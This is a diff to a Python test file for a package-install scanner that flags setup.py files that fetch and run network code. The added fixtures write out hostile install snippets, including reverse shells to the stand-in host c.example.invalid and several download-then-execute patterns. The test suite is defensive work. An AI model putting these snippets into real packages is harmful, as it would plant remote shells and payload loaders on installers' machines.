@@ -46,7 +46,8 @@ s = socket()
 s.connect(('localhost', 3306))
 s.connect('/run/x.sock')
 """,
-    "a decorator": b"import functools, requests\n\n@functools.cache\ndef page():\n    return requests.get('https://x.example.org/')\n",
+    "a decorator": b"import functools, requests\n\n@functools.cache\n"
+    b"def page():\n    return requests.get('https://x.example.org/')\n",
 }
 
 
@@ -152,6 +153,47 @@ class Install(install):
 setup(cmdclass={"install": Install})
 """
     assert "install-talks-to-network" in fired(SDIST, sdist({"setup.py": setup}))
+
+
+SETUP = b"from setuptools import setup\nimport os, socket, subprocess, sys, tempfile\nfrom urllib import request\n"
+TOLD = {
+    "a shell on a socket": b"s = socket.create_connection(('c.example.invalid', 443))\n"
+    b"subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s)\n",
+    "commands by a socket": b"s = socket.socket()\ns.connect(('c.example.invalid', 443))\n"
+    b"while c := s.recv(99):\n    s.send(subprocess.getoutput(c).encode())\n",
+    "a file": b"with open(p, 'wb') as f:\n    f.write(request.urlopen(u).read())\nsubprocess.Popen([p])\n",
+    "a script": b"open(p, mode='w').write(request.urlopen(u).read().decode())\n"
+    b"subprocess.run([sys.executable, '-u', p])\n",
+    "a temporary file": b"with tempfile.NamedTemporaryFile(delete=False) as f:\n"
+    b"    f.write(request.urlopen(u).read())\nos.spawnl(os.P_NOWAIT, f.name, f.name)\n",
+    "a command": b"request.urlretrieve(u, 'x/u')\nos.system('chmod +x x/u && sh x/u &')\n",
+    "a name in a command": b"request.urlretrieve(u, p)\nos.system(f'nohup ./{p} --quiet')\n",
+    "by path": b"from pathlib import Path\np = Path(d)\n"
+    b"p.write_bytes(request.urlopen(u).read())\nos.startfile(str(p))\n",
+    "a module": b"import runpy\nrequest.urlretrieve(u, p)\nrunpy.run_path(p)\n",
+    "in a function": b"def go(p):\n    request.urlretrieve(u, filename=p)\n    os.system('bash ' + p)\ngo(a)\n",
+}
+BUILDS = {
+    "a compiler": b"request.urlretrieve(u, p)\nsubprocess.check_call(['make', '-C', p])\n",
+    "an archive": b"with open(p, 'wb') as f:\n    f.write(request.urlopen(u).read())\nos.system('tar xf ' + p)\n",
+    "another file": b"request.urlretrieve(u, p)\nsubprocess.check_call([sys.executable, q])\n",
+    "a file that is read": b"text = open(p).read() + open(q, 'rb').read()\nrequest.urlopen(u)\n"
+    b"subprocess.check_call([q])\n",
+    "a name of another function": b"def get(p):\n    request.urlretrieve(u, p)\ndef run(p):\n"
+    b"    os.system(p)\nget(a)\nrun(b)\n",
+}
+
+
+@pytest.mark.parametrize("source", TOLD.values(), ids=TOLD)
+def test_an_installation_that_starts_what_the_network_gives_fires(source: bytes) -> None:
+    assert "import-fetches-and-runs" in fired(SDIST, sdist({"setup.py": SETUP + source + b"setup()\n"}))
+
+
+@pytest.mark.parametrize("source", BUILDS.values(), ids=BUILDS)
+def test_an_installation_that_fetches_and_starts_a_compiler_only_talks(source: bytes) -> None:
+    told = fired(SDIST, sdist({"setup.py": SETUP + source + b"setup()\n"}))
+    assert "install-talks-to-network" in told
+    assert "import-fetches-and-runs" not in told
 
 
 @pytest.mark.parametrize("source", [b"def (", b"(" * 5000, b"x = " + b"-" * 100_000 + b"1", b"\xff\xfe"])
